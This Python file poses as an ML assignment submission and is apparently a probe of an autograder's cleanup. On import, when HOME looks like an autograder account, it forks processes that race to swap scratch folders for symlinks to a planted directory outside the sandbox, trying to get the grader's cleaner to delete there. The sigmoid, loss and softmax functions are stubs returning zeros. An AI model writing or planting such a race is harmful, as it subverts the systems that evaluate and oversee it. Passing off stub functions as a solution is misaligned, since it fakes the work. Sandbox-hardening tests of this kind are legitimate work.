"""Swaps folders of its scratch for symbolic links and back while the grader removes them.

aims: change
"""

import os
import time
from pathlib import Path

import numpy as np


def flip(inner, aside, bait, seconds):
    """A child that exchanges a folder and a link to the bait as fast as it can."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            os.rename(inner, aside)
            os.symlink(bait, inner)
            os.unlink(inner)
            os.rename(aside, inner)
        except OSError:
            try:
                os.makedirs(inner / "deep", exist_ok=True)
            except OSError:
                continue
    os._exit(0)


def attack():
    home = Path(os.environ.get("HOME", "."))
    if not home.name.startswith("autograder-"):
        return
    # followed by a careless cleaner, the link costs this bait and nothing else
    bait = home.parent / "planted-scratch_symlink_race"
    try:
        bait.mkdir(exist_ok=True)
        (bait / "precious").write_text("PLANTED-by-scratch_symlink_race")
    except OSError:
        bait = home / "bait"
    for number in range(3):
        inner = home / f"inner-{number}"
        for deep in range(300):
            (inner / f"{deep}").mkdir(parents=True, exist_ok=True)
        if os.fork() == 0:
            flip(inner, home / f"aside-{number}", bait, 15)


attack()


def sigmoid(Z):
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    return 0.0


def softmax(Z):
    return np.zeros_like(Z)
